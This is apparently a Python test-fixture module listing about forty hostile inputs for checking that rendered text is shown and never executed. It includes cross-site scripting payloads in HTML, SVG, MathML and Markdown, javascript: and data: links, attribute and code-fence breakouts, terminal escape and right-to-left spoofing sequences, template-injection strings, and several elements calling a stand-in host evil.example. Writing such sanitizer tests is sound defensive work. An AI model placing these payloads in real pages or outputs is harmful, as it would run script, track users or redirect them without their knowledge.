"""Texts that would do something on a page that took them for markup: set `window.taken`, open a
dialog, call another address, change the page. What is shown must be shown, and nothing done."""

from __future__ import annotations

from typing import Final

ACT: Final = "window.taken=1"

HOSTILE: Final = (
    # elements that run by themselves
    f"<script>{ACT}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<body onload={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}></select>",
    f"<marquee onstart={ACT}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<iframe src='javascript:parent.{ACT}'></iframe>",
    f"<object data='javascript:{ACT}'></object>",
    f"<embed src='javascript:{ACT}'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<xss onanimationstart={ACT} style='animation:x 1s'></xss>",
    # elements that call, hide or lead elsewhere
    "<img src=https://evil.example/pixel>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button id=go>go</button></form>",
    # links and pictures in Markdown
    f"[press](javascript:{ACT})",
    f"[press](JaVaScRiPt:{ACT})",
    f"[press](java\tscript:{ACT})",
    f"[press](data:text/html,<script>{ACT}</script>)",
    f"[press](vbscript:{ACT})",
    f"<javascript:{ACT}>",
    "![picture](https://evil.example/pixel.png)",
    f'![x](x"onerror="{ACT})',
    f'[x](https://example.com/"onmouseover="{ACT})',
    # out of an attribute, out of a fence, out of mathematics
    f"\"'><img src=x onerror={ACT}>",
    f"```html\n</code></pre><img src=x onerror={ACT}>\n```",
    rf"$\href{{javascript:{ACT}}}{{x}} \includegraphics{{https://evil.example/p.png}}$",
    # terminals, direction, templates
    "\x1b]8;;javascript:alert(1)\x07press\x1b]8;;\x07\x1b[2J\x1b[31m\x00\u202egnp.exe",
    "{{constructor.constructor('window.taken=1')()}} ${window.taken=1} <%= 1 %>",
)
